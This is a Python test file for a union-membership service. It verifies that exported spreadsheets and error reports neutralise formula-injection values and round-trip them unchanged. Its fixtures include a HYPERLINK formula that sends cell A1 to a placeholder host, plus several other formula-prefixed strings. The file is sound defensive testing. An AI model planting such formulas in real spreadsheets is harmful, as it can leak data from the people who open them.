"""No live formulas (issue 16, finding 3): values beginning with =, +, -, @, tab or CR are
written as text cells by the export and the error report (never a formula: no ``<f>`` in the
sheet XML, Excel's quote prefix on the cell), and come back exactly as given when the export
is imported again."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from python_calamine import CalamineWorkbook

from graph_service.demo.generator import DemoConfig
from graph_service.queries import Query
from graph_service.services.registry import Services
from graph_service.store import GraphStore
from loaders.exporter import export_subtree
from loaders.importer import Importer
from loaders.report import write_report
from loaders.safe_cells import csv_safe, risky
from loaders.samples import CANONICAL_MEMBER_HEADER, write_csv
from tests.conftest import make_services, open_test_store

UNION_NAME = "=1+2"
CHAIR = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
MEMBER_NAME = "@SUM(1+1)"
ADDRESS = "-2+3 长兴路"
TABBED = "\t=1+1"

SET_UNION = Query(
    "t/set_union_text",
    "MATCH (u:Union {id: $id}) SET u.name = $name, u.chair = $chair RETURN u.id AS id",
)
SET_MEMBER = Query(
    "t/set_member_text",
    "MATCH (m:Member)-[r:MEMBER_OF]->(u:Union {id: $union}) WHERE r.until IS NULL "
    "WITH m LIMIT 1 SET m.name = $name RETURN m.certKey AS certKey",
)
SET_EMPLOYER = Query(
    "t/set_employer_text",
    "MATCH (e:Employer) WITH e ORDER BY e.id LIMIT 1 SET e.address = $address RETURN e.id AS id",
)
UNION = Query("t/union_text", "MATCH (u:Union {id: $id}) RETURN u.name AS name, u.chair AS chair")
MEMBER = Query("t/member_text", "MATCH (m:Member {certKey: $key}) RETURN m.name AS name")
EMPLOYER = Query("t/employer_text", "MATCH (e:Employer {id: $id}) RETURN e.address AS address")
BASE_UNIONS = Query(
    "t/base_unions",
    "MATCH (m:Member)-[r:MEMBER_OF]->(u:Union) WHERE r.until IS NULL "
    "RETURN u.id AS id ORDER BY u.id LIMIT 1",
)


def _sheet_xml(path: Path) -> list[bytes]:
    with zipfile.ZipFile(path) as book:
        return [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]


def _quoted_styles(path: Path) -> set[int]:
    """Indexes of the cell formats with Excel's quote prefix."""
    with zipfile.ZipFile(path) as book:
        styles = book.read("xl/styles.xml").decode()
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs is not None
    formats = re.findall(r"<xf\b[^>]*>", xfs.group(1))
    return {i for i, xf in enumerate(formats) if 'quotePrefix="1"' in xf}


def _cells_with(path: Path, text: str) -> list[str]:
    """The opening tags of the cells whose inline text is ``text`` (XML-escaped)."""
    escaped = text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    found = []
    for xml in _sheet_xml(path):
        body = xml.decode()
        for m in re.finditer(r"(<c\b[^>]*>)<is><t[^>]*>(.*?)</t></is>", body, re.S):
            if m.group(2) in (text, escaped, escaped.replace("&quot;", '"')):
                found.append(m.group(1))
    return found


def test_risky_values_are_recognised() -> None:
    assert all(risky(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx"))
    assert not any(risky(v) for v in ("张三", "1-2", "", 5, None, " =1"))
    assert csv_safe("=1+2") == "'=1+2" and csv_safe("张三") == "张三" and csv_safe(3) == 3


async def test_export_writes_text_and_round_trips(
    services: Services, tmp_path: Path, falkordb_server: object, store: GraphStore
) -> None:
    await services.demo.load(DemoConfig(members=300, seed=5, dissolved_union_share=0.0))
    union = str((await store.read(BASE_UNIONS))[0]["id"])
    await store.write(SET_UNION, {"id": union, "name": UNION_NAME, "chair": CHAIR})
    key = str((await store.write(SET_MEMBER, {"union": union, "name": MEMBER_NAME}))[0]["certKey"])
    employer = str((await store.write(SET_EMPLOYER, {"address": ADDRESS}))[0]["id"])
    root = (await services.imports._national_root()) or ""
    out = tmp_path / "export.xlsx"
    await export_subtree(services.imports, root, out)

    assert not any(b"<f>" in xml or b"<f " in xml for xml in _sheet_xml(out))  # no formula
    quoted = _quoted_styles(out)
    for text in (UNION_NAME, CHAIR, MEMBER_NAME, ADDRESS):
        cells = _cells_with(out, text)
        assert cells, text
        for tag in cells:
            style = re.search(r'\ss="(\d+)"', tag)
            assert style is not None and int(style.group(1)) in quoted, (text, tag)

    target = await open_test_store(store.engine, falkordb_server)  # type: ignore[arg-type]
    try:
        fresh = make_services(target)
        summary = await Importer(fresh.imports).run([(out, out.name)], operator="t")
        assert summary.rejected == 0, summary.errors[:5]
        # imported values are stored exactly as given: no apostrophe, no evaluation
        assert await target.read(UNION, {"id": union}) == [{"name": UNION_NAME, "chair": CHAIR}]
        assert await target.read(MEMBER, {"key": key}) == [{"name": MEMBER_NAME}]
        assert await target.read(EMPLOYER, {"id": employer}) == [{"address": ADDRESS}]
    finally:
        await target.drop()  # type: ignore[attr-defined]
        await target.close()


async def test_error_report_writes_text(services: Services, tmp_path: Path) -> None:
    # a roster whose rows are refused (no such union column value), carrying risky cells
    rows = [["1", MEMBER_NAME, "男", "330522198503120000", CHAIR, TABBED]]
    path = write_csv(tmp_path / "bad.csv", CANONICAL_MEMBER_HEADER[:6], rows)
    summary = await Importer(services.imports).run(
        [(path, path.name)], union_id=None, dry_run=True, operator="t"
    )
    assert summary.errors
    report = write_report(summary, tmp_path / "report.xlsx")
    assert not any(b"<f>" in xml or b"<f " in xml for xml in _sheet_xml(report))
    quoted = _quoted_styles(report)
    for text in (MEMBER_NAME, CHAIR):
        cells = _cells_with(report, text)
        assert cells, text
        assert all(int(re.search(r'\ss="(\d+)"', t).group(1)) in quoted for t in cells)  # type: ignore[union-attr]


async def test_error_report_holds_control_characters(services: Services, tmp_path: Path) -> None:
    """Found by the REST schemathesis run: a rejected row (or a header) holding a control
    character XML cannot carry made ``write_report`` raise (a 500 from ``POST /imports``); each
    such character is written as U+FFFD, the rest of the cell as given."""
    header = [*CANONICAL_MEMBER_HEADER[:6], "备\x01注"]
    rows = [["1", "张\x02三", "男", "330522198503120000", "=1\x07", "\x1b", "x"]]
    path = write_csv(tmp_path / "bad.csv", header, rows)
    summary = await Importer(services.imports).run(
        [(path, path.name)], union_id=None, dry_run=True, operator="t"
    )
    assert summary.errors
    report = write_report(summary, tmp_path / "report.xlsx")
    book = CalamineWorkbook.from_path(str(report))
    lines = book.get_sheet_by_name("错误明细").to_python()
    cells = {str(c) for line in lines for c in line}
    assert {"张\ufffd三", "=1\ufffd", "原表：备\ufffd注"} <= cells
    assert "\ufffd" in cells
    assert not any(b"<f>" in xml or b"<f " in xml for xml in _sheet_xml(report))
